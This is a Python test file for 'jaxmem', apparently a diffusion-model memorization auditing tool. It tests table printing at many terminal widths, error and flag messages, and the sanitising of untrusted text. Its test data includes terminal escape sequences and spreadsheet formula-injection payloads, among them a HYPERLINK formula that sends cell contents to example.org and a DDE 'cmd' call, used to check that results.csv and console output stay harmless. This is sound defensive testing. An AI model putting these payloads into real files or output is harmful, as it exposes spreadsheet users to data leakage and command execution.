"""What commands print and write for people: whole numbers at any width, no commands of others, messages with flags."""

import ast
import csv
import io
import json
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import synthetic_audit
from conftest import command_environment
from rich.cells import cell_len
from rich.console import Console

import jaxmem
from jaxmem.audit import read_audit, read_results
from jaxmem.audit.summary import write_table
from jaxmem.commands.audit import Audit, Report
from jaxmem.commands.flags import as_flags
from jaxmem.commands.models import Generate, Spectrum
from jaxmem.commands.output import say, say_result
from jaxmem.commands.reproduce import Mnist, PaperFigures, Toy2d, Verbatim
from jaxmem.prompts import read_prompts
from jaxmem.report import tables
from jaxmem.report.audit.view import AuditView
from jaxmem.report.style import figure, plain
from jaxmem.runs import durable
from jaxmem.terminal import visible

LIBRARY = Path(jaxmem.__file__).parent
# It clears the screen, sets the title, writes from right to left, and looks like rich's markup.
HOSTILE = "\x1b[2J\x1b]0;title\x07\x9b31m\u202e\u2066evil\u200b\r [bold]x[/bold] [/red] \u2028 end"
LONG = "Full body U-Zip main opening - Full body U-Zip main opening on front of bag for easy unloading when you camp"
WIDE = "図書館の前で写真を撮る人々と猫と犬と鳥と魚と馬と牛と羊と豚と鶏と山と川と海と空と雲と雨と雪と風と星"
WIDTHS = [200, 120, 80, 60, 40, 25]


def printed(show, width):
    """What a function prints on a console of this width; None is no terminal, as in a log."""
    stream = io.StringIO()
    show(Console(file=stream) if width is None else Console(file=stream, width=width))
    text = stream.getvalue()
    assert all(cell_len(line) <= (width or 80) for line in text.splitlines() if not line.startswith("  /")), text
    assert all(c.isprintable() or c == "\n" for c in text)
    return text


def squeezed(text):
    return re.sub(r"\s+", "", text)


@pytest.fixture(scope="module")
def audited(tmp_path_factory):
    """The run of an audit whose prompts are long, wide and hostile."""
    run = synthetic_audit.write_run(tmp_path_factory.mktemp("audit") / "run")
    metrics = json.loads((run / "metrics.json").read_text())
    for row, text in zip(metrics["prompts"], (LONG, HOSTILE, WIDE, "short"), strict=True):
        row["prompt"] = text
    for found in metrics["evaluation"].values():
        found["all"] |= {"num_positive_prompts": 5, "num_negative_prompts": 5}  # of fewer no area is printed
        found[HOSTILE] = found["all"]
    metrics["num_evaluations"] = 1234
    (run / "metrics.json").write_text(json.dumps(metrics))
    return run, metrics


@pytest.mark.parametrize("width", [*WIDTHS, None])
def test_the_table_that_ends_an_audit_has_all_its_numbers(audited, width, monkeypatch):
    monkeypatch.delenv("COLUMNS", raising=False)
    run, metrics = audited
    text = printed(lambda console: tables.print_audit(run, console), width)
    found = squeezed(text)
    view = AuditView(read_audit(run))
    for row in metrics["prompts"]:
        for name in [view.detectors[d].name for d in view.leads[:5]]:
            assert f"{row['scores'][name]:.4g}" in found
    assert "FullbodyU-Zip" in found
    assert r"\x1b[2J\x1b]0;title\x07\x9b31m\u202e\u2066evil\u200b\r" in found


# Names and numbers as an audit of the shipped model prints them.
NAMES = ["prompt", "positive-count@t281", "wen-1", "score-evolution", "largest-sum@t981", "anisotropy"]
NUMBERS = ["0 (1)", "0.002164 (10)", "-1.373e-05 (2)", "-4.678 (1)", "0.09976 (10)"]


@pytest.mark.parametrize("width", WIDTHS)
def test_a_table_is_whole_at_any_width(width):
    rows = [[text, *NUMBERS] for text in (LONG, HOSTILE, WIDE, "")]
    text = printed(lambda console: tables.print_table("Title", NAMES, rows, console, words="prompt"), width)
    found = squeezed(text)
    assert found.count("-1.373e-05(2)") == 4 or width >= 60, "a list has each number behind its name"
    for cell in NUMBERS:
        assert all(text.count(part) >= 4 for part in cell.split()), cell
    assert all(piece in text for name in NAMES[1:] for piece in re.findall(r"@?\w+", name))
    assert "…" in text
    assert ("│" in text or "──" in text) == (width >= 80), "a table where there is room, else a list"


def test_short_prompts_do_not_stretch_a_table():
    lines = printed(
        lambda console: tables.print_table("", NAMES[:2], [["a cat", "0"]], console, words="prompt"), 200
    ).splitlines()
    assert max(map(cell_len, lines)) < 40


SPREAD = {"general": dict(mean=123.44, min=100, max=150), "memorized": dict(mean=0.25, min=0, max=3)}
ERRORS = {t: dict(memorized=0.1234, general=0.0101) for t in ("900", "500", "300", "200", "100", "50", "20")}
KINDS = {kind: dict(positive=[12.34], positive_of_training_set=[56.78]) for kind in ("none", "template", "matching")}
OTHERS = {
    "_mnist": (
        dict(
            positive_count={"0": SPREAD, "500": SPREAD}, tangent_count={"0": SPREAD, "500": SPREAD},
            auc_positive_count={"0": 1.0, "500": 0.512}, memorized_are_the_training_image=1.0,
            nearest_train_distance=dict(memorized=0.3, general=5.2),
            num_samples=dict(analysed=dict(general=24, memorized=23)),
        ),
        dict(general_digit=3, memorized_digit=9),
        ["123.4", "(100", "150)", "0.2", "(0", "3)", "1.000", "0.512", "123.4/"],
    ),
    "_toy2d": (
        dict(
            hessian_rel_error=ERRORS, hessian_rel_error_median=0.0132, memorized_fraction=0.03,
            first_order=dict(hessian_rel_error=ERRORS, hessian_rel_error_median=0.0233),
        ),
        dict(num_copies=100, num_gaussian=3000, num_samples=5000),
        ["12.3", "1.0", "1.32", "2.33"],
    ),
    "_verbatim": (
        dict(
            counts={"981": KINDS}, auc=dict(audit={"positive-count@t981": {"matching": {"auc": 0.987}}}), earliest={},
            captions_returned=1.0, matching_returned=1.0,
        ),
        {},
        ["981", "12.3", "56.8", "0.987"],
    ),
    "_spectrum": (
        dict(
            timestep=981, sigma=0.9971, method="lanczos", dimension=16384, lower_bound=-1.0, asymmetry_of="it",
            points=[
                dict(
                    image=0, prompt=prompt, kind="conditional", largest=[-0.12345], largest_residuals=[1e-3],
                    smallest=[-1.2345], smallest_residuals=[2e-4], num_positive_ritz_values=7, num_ritz_values=20,
                    asymmetry=0.0123,
                )
                for prompt in (LONG, HOSTILE, WIDE)
            ],
        ),
        dict(method="lanczos"),
        ["-0.1235", "0.001", "-1.234", "0.0002", "7", "20", "1.2%"],
    ),
}  # fmt: skip


@pytest.mark.parametrize("width", [*WIDTHS, None])
@pytest.mark.parametrize("name", OTHERS)
def test_the_tables_of_the_other_commands_have_all_their_numbers(name, width, monkeypatch):
    monkeypatch.delenv("COLUMNS", raising=False)
    metrics, config, numbers = OTHERS[name]
    found = squeezed(printed(lambda console: getattr(tables, name)(metrics, config, console), width))
    assert all(number in found for number in numbers)


# --- Text of others ---------------------------------------------------------------------------------------------------


def test_text_of_others_is_shown_and_not_obeyed(capsys):
    assert visible("plain é 図 😀") == "plain é 図 😀"
    assert visible("a\u00a0b\u3000c") == "a b c"
    assert visible("a\nb\x1b", keep="\n") == "a\nb\\x1b"
    assert visible("\udc80") == "\\udc80"  # a file name that is no UTF-8
    say(f"model: {HOSTILE}")
    say_result(f"model: {HOSTILE}")
    for text in capsys.readouterr():
        assert text.endswith("end\n")
        assert text[:-1].isprintable()


def test_errors_do_not_obey_file_names(tmp_path, capsys):
    from jaxmem import cli

    assert cli.main(["report", str(tmp_path / "\x1b[2Jx")]) == 2
    assert "\\x1b[2Jx: expected a run directory" in capsys.readouterr().err


def test_warnings_are_lines_that_do_not_obey_names():
    script = f"""
import warnings
from jaxmem import cli
def warn():
    warnings.warn({HOSTILE + ": continued"!r})
    warnings.warn("old", FutureWarning)
cli._parse = lambda arguments: warn
cli.main(["audit"])
warnings.warn("after")
"""  # in a process of its own: pytest keeps warnings to itself
    done = subprocess.run([sys.executable, "-c", script], env=command_environment(), capture_output=True, check=True)
    first, second, third = done.stderr.decode().splitlines()
    assert first.startswith("jaxmem: warning: \\x1b[2J")
    assert first.isprintable()
    assert second.endswith(": FutureWarning: jaxmem: warning: old")
    assert third.endswith(": UserWarning: after")


@pytest.mark.parametrize("text", [HOSTILE, "costs $5 and $6", "$x^2$", "\\$x\\$", "a_b^c \\frac{1}{2} $", "%d {x}"])
def test_titles_of_figures_are_text(text, tmp_path):
    with figure(tmp_path / "f.png", 3.0, 2.0) as canvas:
        axis = canvas.subplots()
        axis.set_title(plain(text))  # warnings are errors: a glyph that is missing, too
    assert (tmp_path / "f.png").stat().st_size > 1000
    assert plain(text).isprintable()


# --- results.csv ------------------------------------------------------------------------------------------------------

PROMPTS = [
    *('=HYPERLINK("http://example.org/?a="&A1,"free")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "- a cat"),
    *("@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", "'a cat'", "＝1+1", "a cat", "a\rcat"),
    *('say "hi", then', "two\nlines", "NA", "null", "1", "über 図"),
    *("a cat;=1+1", "a cat\t=1+1", "a cat|=1+1", 'a cat";=1+1'),
]


def write_results(folder, prompts):
    numbers = range(len(prompts))
    table = {
        "prompt": prompts, "label": [n % 2 == 0 for n in numbers], "category": ["-VM" if n else None for n in numbers],
        "truncated": [False for _ in numbers], "jeon": [-0.5 * n for n in numbers], "jeon rank": list(numbers),
        "jeon percentile": [float("nan") for _ in numbers],
    }  # fmt: skip
    return write_table(table, folder / "results.csv")


@pytest.fixture
def results(tmp_path):
    return write_results(tmp_path, PROMPTS)


def test_results_are_read_back_unchanged(results):
    for path in (results, results.parent):
        table = read_results(path)
        assert table.prompt.tolist() == PROMPTS
        assert table.category.tolist()[1:] == ["-VM"] * (len(PROMPTS) - 1)
        assert pd.isna(table.category[0])
        assert table.jeon.tolist() == [-0.5 * n for n in range(len(PROMPTS))]
    plain_table = pd.read_csv(results, keep_default_na=False)
    unchanged = [text for text in PROMPTS if text.lstrip("'").lstrip(" ")[0] not in "=+-@\t\r\n＝"]
    assert [text for text in plain_table.prompt if text in unchanged] == unchanged
    with pytest.raises(ValueError, match=r"nowhere: expected a finished audit with its results\.csv, got no such file"):
        read_results(results.parent / "nowhere")


def test_results_are_a_list_of_prompts(tmp_path):
    texts = [text for text in PROMPTS if text == text.strip()]
    assert [prompt.text for prompt in read_prompts(write_results(tmp_path, texts))] == texts


def test_results_without_pandas(results, monkeypatch):
    monkeypatch.setitem(__import__("sys").modules, "pandas", None)
    with pytest.raises(ImportError, match=r"read_results: expected pandas, .*; pip install 'jaxmem\[all\]'"):
        read_results(results)


def test_no_cell_of_the_results_begins_a_formula(results):
    with open(results, encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in (row[0], row[2])]
    assert not [cell for cell in cells if cell.lstrip(" ")[:1] in tuple("=+-@\t\r\n＝")]


@pytest.mark.skipif(
    not shutil.which("soffice"), reason="no LibreOffice here: apt-get install libreoffice-calc brings it"
)
@pytest.mark.parametrize("separators", ["44", "44/59/9"], ids=["commas", "commas, semicolons and tabs"])
def test_libreoffice_computes_nothing_of_the_results(results, tmp_path, separators):
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    options = [profile, "--headless", f"--infilter=CSV:{separators},34,76,1", "--convert-to", "xlsx"]
    command = ["soffice", *options, "--outdir", str(tmp_path), str(results)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    with zipfile.ZipFile(tmp_path / "results.xlsx") as archive:
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert not list(sheet.iter(f"{space}f")), "a formula"
    kinds = {cell.get("r"): cell.get("t") for cell in sheet.iter(f"{space}c")}
    assert [kinds[f"A{n + 2}"] for n, text in enumerate(PROMPTS) if text != "1"] == ["s"] * (len(PROMPTS) - 1)


# --- Messages ---------------------------------------------------------------------------------------------------------


def texts(path):
    """The texts of a module that are no docstrings, those of one f-string together."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    bare = {node.value for node in ast.walk(tree) if isinstance(node, ast.Expr)}
    inner = {part for node in ast.walk(tree) if isinstance(node, ast.JoinedStr) for part in node.values}
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            yield "".join(
                str(part.value) if isinstance(part, ast.Constant) else f"{{{ast.unparse(part.value)}}}"
                for part in node.values
            )
        elif isinstance(node, ast.Constant) and isinstance(node.value, str) and node not in bare | inner:
            yield node.value


MODULES = [
    path
    for path in sorted(LIBRARY.rglob("*.py"))
    if path.relative_to(LIBRARY).parts[0] not in ("cli.py", "commands", "__main__.py")
]


def test_no_text_of_the_library_names_a_flag_or_a_command():
    wrong = [
        f"{path.relative_to(LIBRARY)}: {text[:80]}"
        for path in MODULES
        for text in texts(path)
        if re.search(r"(^|[\s(`'\"])--[a-z]", text) or "same command" in text
    ]
    assert not wrong


MESSAGES = [  # module, its words, the command, its words there
    ("runs/durable.py", "(what is finished is kept), or choose another folder", Audit, "choose another --out"),
    ("runs/directory.py", "got a file; choose another folder", Audit, "got a file; choose another --out"),
    ("runs/directory.py", "move the directory away, or choose another folder", Mnist, "or choose another --out"),
    (
        "runs/manifest.py",
        "with the version of jaxmem that made it), or choose another folder",
        Audit,
        "choose another --out",
    ),
    (
        "runs/manifest.py",
        "', …' if len(foreign) > 3 else ''}); choose another folder",
        Spectrum,
        "choose another --out",
    ),
    ("report/figures.py", "run the experiment again in a new folder", Toy2d, "again in a new --out"),
    ("report/paper.py", "add a category column, and a `method`", PaperFigures, "column, and a --method"),
    (
        "report/audit/page.py",
        "`jaxmem.report.figures.draw` draws the others",
        Report,
        "jaxmem figures draws the others",
    ),
    ("audit/cost.py", "take a smaller `batch`", Audit, "take a smaller --batch"),
    (
        *("audit/cost.py", "take `method` lanczos or none, or a smaller `batch` or `num_steps`", Audit),
        "take --method lanczos or none, or a smaller --batch or --num-steps",
    ),
    ("audit/result.py", "{error}); restore it, or run the audit again in a new folder", Audit, "in a new --out"),
    ("audit/result.py", "got {len(prompts)}; restore it, or run the audit again in a new folder", Audit, "a new --out"),
    ("audit/plan.py", "for counts add a `count_budget`", Audit, "for counts add a --count-budget"),
    ("audit/plan.py", "for estimates add `method` lanczos or none", Audit, "add --method lanczos or none"),
    ("audit/plan.py", "they compare two; add `noises` or prompts", Audit, "add --noises or prompts"),
    ("prompts/prompt.py", "merge them with `merge_duplicates`", Audit, "merge them with --merge-duplicates"),
    (
        *("training.py", "lower `{name}.learning_rate` or `{name}.second_order_weight`, in a new folder", Toy2d),
        "in a new --out",
    ),
    ("training.py", "lower `{name}.learning_rate`, in a new folder, or look", Toy2d, "in a new --out, or look"),
    (
        *("audit/spectrum.py", "smaller `batch` or `num_steps`, or another `method`", Spectrum),
        "smaller --batch or --num-steps, or another --method",
    ),
    (
        "experiments/toy2d.py",
        "longer (`training.num_steps`), in a new folder",
        Toy2d,
        "--training.num-steps), in a new --o",
    ),
    (
        *("experiments/mnist.py", "(`num_general_samples`) or lower `new_threshold`, in a new folder", Mnist),
        "(--num-general-samples) or lower --new-threshold, in a new --out",
    ),
    ("data/mnist.py", "name it by `data_dir` or ${ENVIRONMENT}", Mnist, "name it by --data-dir or $"),
]


@pytest.mark.parametrize(("module", "words", "command", "translated"), MESSAGES, ids=lambda value: str(value)[-40:])
def test_messages_name_arguments_and_the_command_line_flags(module, words, command, translated):
    assert any(words in text for text in texts(LIBRARY / module))
    assert translated in as_flags(f"somewhere: expected {words}", command, ["--seed", "1"])


@pytest.mark.parametrize("path", sorted((LIBRARY / "stable_diffusion").rglob("*.py")), ids=lambda path: path.name)
def test_folders_of_models_are_not_outputs(path):
    """Messages about a model's folder do not say what becomes ``--out``."""
    # Backquotes stand around code that is not filled in here.
    plain = [text.replace("`", "") for text in texts(path)]
    assert not [text for text in plain if "--out" in as_flags(text, Audit, ["--seed", "1"])]


@pytest.mark.parametrize(
    ("message", "command", "arguments", "expected"),
    [
        ("batch: expected at least 1, got 0", Audit, [], "--batch: expected at least 1, got 0"),
        ("num_steps: expected 1 to 3", Spectrum, [], "--num-steps: expected 1 to 3"),
        ("num_steps: too few", Toy2d, ["--training.num-steps", "0"], "--training.num-steps: too few"),
        (
            "num_steps: too few",
            Toy2d,
            ["--first-order-training.num-steps=0"],
            "--first-order-training.num-steps: too few",
        ),
        ("num_steps: too few", Toy2d, [], "num_steps: too few"),
        ("training: lower `learning_rate`", Toy2d, [], "training: lower --training.learning-rate"),
        ("training: lower `training.seed`", Verbatim, [], "training: lower --training.seed"),
        ("a_share + b: no", Verbatim, [], "a_share + b: no"),
        ("matching_share + template_share: no", Verbatim, [], "--matching-share + --template-share: no"),
        ("model: expected finite parameters", Audit, [], "MODEL: expected finite parameters"),
        ("neutral: expected others", Audit, ["--reference", "f"], "--reference: expected others"),
        ("neutral: expected others", Audit, ["--neutral", "5"], "--neutral: expected others"),
        ("neutral[3]: expected a text", Audit, ["--neutral", "5"], "--neutral[3]: expected a text"),
        ("out: expected an empty directory", Audit, ["--out", "out"], "out: expected an empty directory"),
        ("/a/b: cannot write; choose another folder", Report, [], "/a/b: cannot write; choose another folder"),
        ("score: look at `state`", Audit, [], "score: look at state"),
        ("batch: no", None, [], "batch: no"),
        (
            "load it with `prediction_type='epsilon'` or 'sample'",
            Audit,
            [],
            "load it with --prediction-type epsilon or 'sample'",
        ),
        ("without it: `ignore_settings=['a', 'b']`", Spectrum, [], "without it: --ignore-setting a b"),
        ("a LoRA; give it: `lora=['/a b/c']`", Audit, [], "a LoRA; give it: --lora '/a b/c'"),
        ("lora: no", Audit, [], "--lora: no"),
        ("clip_skip: no; `embedding=['c']`", Spectrum, [], "--clip-skip: no; --embedding c"),
        ("unet: no `lora`; `unet`", PaperFigures, [], "unet: no --lora; --unet"),
        ("height: expected a multiple of 8", Generate, [], "--height: expected a multiple of 8"),
        ("score: `state=1`", Audit, [], "score: state=1"),
        ("prompts: got 'a `seed=abc` cat' twice", Audit, [], "--prompts: got 'a `seed=abc` cat' twice"),
        ("out: expected an empty directory", Audit, ["--out=./out"], "out: expected an empty directory"),
    ],
)
def test_names_of_arguments_become_flags(message, command, arguments, expected):
    assert as_flags(message, command, arguments) == expected


def test_a_full_disk_speaks_of_folders_and_on_the_command_line_of_out(tmp_path, monkeypatch, capsys):
    from jaxmem import cli

    def full(_):
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match=r"No space left on device; make room .*, or choose another folder$") as caught:
        durable.write_atomically(tmp_path / "x", full)
    monkeypatch.setattr(cli, "_parse", lambda arguments: lambda: (_ for _ in ()).throw(caught.value))
    assert cli.main(["audit", "--out", "run"]) == 2
    assert capsys.readouterr().err.endswith("or choose another --out\n")
